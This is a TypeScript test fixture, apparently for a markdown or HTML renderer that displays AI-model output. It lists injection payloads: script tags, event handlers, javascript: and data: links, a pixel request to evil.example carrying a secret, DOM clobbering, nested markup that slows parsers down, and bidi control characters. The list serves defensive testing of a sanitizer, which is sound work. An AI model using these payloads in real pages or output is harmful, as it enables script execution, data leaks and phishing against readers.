/** What would be noticed if any of it ran: a script that sets this, or a request to this host. */
const RUNS = "window.hostileRan=1";
const ELSEWHERE = "https://evil.example";

/**
 * Texts as a model may write them when somebody has told it to: scripts in each place that one can be in, addresses that run
 * something, things that fetch, marks that are nested or that never end, and letters that turn a line around.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  // HTML that runs.
  `<script>${RUNS}</script>`,
  `<SCRIPT SRC=${ELSEWHERE}/x.js></SCRIPT>`,
  `text <script>${RUNS}</script> text`,
  `<img src=x onerror="${RUNS}">`,
  `text <img src=x onerror=${RUNS}> text`,
  `<svg onload="${RUNS}"><circle r=9 /></svg>`,
  `<svg><script href="data:text/javascript,${RUNS}" /></svg>`,
  `<math><mtext><img src=x onerror=${RUNS}></mtext></math>`,
  `<iframe srcdoc="<script>parent.${RUNS.slice(7)}</script>"></iframe>`,
  `<iframe src="javascript:${RUNS}"></iframe>`,
  `<object data="data:text/html,<script>${RUNS}</script>"></object>`,
  `<embed src="${ELSEWHERE}/x.swf">`,
  `<body onload=${RUNS}>`,
  `<details open ontoggle=${RUNS}><summary>x</summary></details>`,
  `<input autofocus onfocus=${RUNS}>`,
  `<video><source onerror="${RUNS}"></video>`,
  `<a href="javascript:${RUNS}" onmouseover="${RUNS}">x</a>`,
  `<form action="${ELSEWHERE}"><button formaction="javascript:${RUNS}">x</button></form>`,
  `<isindex action="javascript:${RUNS}" type=image>`,
  // HTML that fetches, or changes the page.
  `<link rel=stylesheet href=${ELSEWHERE}/x.css>`,
  `<style>@import url(${ELSEWHERE}/x.css); * { display: none }</style>`,
  `<div style="background: url(${ELSEWHERE}/x.png); position: fixed; inset: 0">x</div>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}/">`,
  `<img src="${ELSEWHERE}/pixel.png?secret=1">`,
  `<audio src="${ELSEWHERE}/x.mp3" autoplay></audio>`,
  `<div id="page" name="cookie">x</div><img name="body"><form id="documentElement">`,
  // HTML that is not whole, or that markup is in.
  `<scr<script>ipt>${RUNS}</scr</script>ipt>`,
  `<img """><script>${RUNS}</script>">`,
  `<!--><script>${RUNS}</script>-->`,
  `<![CDATA[<script>${RUNS}</script>]]>`,
  `<?xml version="1.0"?><?php ${RUNS} ?>`,
  `<div\n\n<script>${RUNS}</script>`,
  `&lt;script&gt;${RUNS}&lt;/script&gt; &#60;img src=x onerror=${RUNS}&#62;`,
  `**<img src=x onerror=${RUNS}>** \`</code><script>${RUNS}</script>\``,
  `\`\`\`html"><script>${RUNS}</script>\n</code></pre><script>${RUNS}</script>\n\`\`\``,
  `| <script>${RUNS}</script> | b |\n| --- | --- |\n| <img src=x onerror=${RUNS}> | <style>*{display:none}</style> |`,
  // Links and images.
  `[x](javascript:${RUNS})`,
  `[x](JaVaScRiPt:${RUNS}) [y](java\tscript:${RUNS}) [z](<java script:${RUNS}>)`,
  `[x](javascript&colon;${RUNS}) [y](&#106;avascript&#58;${RUNS}) [z](&#x6A&#x61vascript:${RUNS})`,
  `[x](vbscript:msgbox) [y](livescript:x) [z](mocha:x)`,
  `[x](data:text/html,<script>${RUNS}</script>) [y](data:text/html;base64,PHNjcmlwdD4=)`,
  `[x](<javascript:${RUNS}>) <javascript:${RUNS}>`,
  `[x][y]\n\n[y]: javascript:${RUNS} "title"`,
  `[x](https://example.com "\\" onmouseover=${RUNS} \\"") [y](https://example.com"onclick="${RUNS})`,
  `[x](https://example.com/%22onclick=%22${RUNS}) [y](https://example.com/\u202e/moc.live)`,
  `![x](${ELSEWHERE}/pixel.png?secret=1)`,
  `![x](javascript:${RUNS}) ![y](data:image/svg+xml,<svg onload=${RUNS}>)`,
  `[![x](${ELSEWHERE}/a.png)](javascript:${RUNS}) [a [b](javascript:${RUNS}) c](https://example.com)`,
  `[https://bank.example](${ELSEWHERE}) https://bank.example@evil.example/ //evil.example/x [x](//evil.example)`,
  `[x](blob:https://example.com/1) [y](file:///etc/passwd) [z](/ui/#/connect) [w](#/approvals)`,
  // Marks that cost.
  "[".repeat(60_000),
  `${"[a](".repeat(8000)}${")".repeat(8000)}`,
  "![".repeat(20_000),
  "> ".repeat(15_000),
  `${"- ".repeat(10_000)}x\n${Array.from({ length: 200 }, (_, depth) => `${" ".repeat(2 * depth)}* y`).join("\n")}`,
  `${"_a*".repeat(10_000)} ${"*a **b ".repeat(5000)}${"** *".repeat(5000)}`,
  `${"`a ".repeat(20_000)}\n\n${"<".repeat(20_000)}\n\n${"<a href='".repeat(5000)}`,
  `${"|a".repeat(3000)}|\n${"|-".repeat(3000)}|\n${"|a".repeat(3000)}|`,
  // Letters.
  `\u202e\u2066 turned around \u2069 ${"\u0300".repeat(3000)}Z${"\u200b".repeat(3000)} \u0000 \ufffe \ud800 ${"﷽".repeat(500)}`,
];
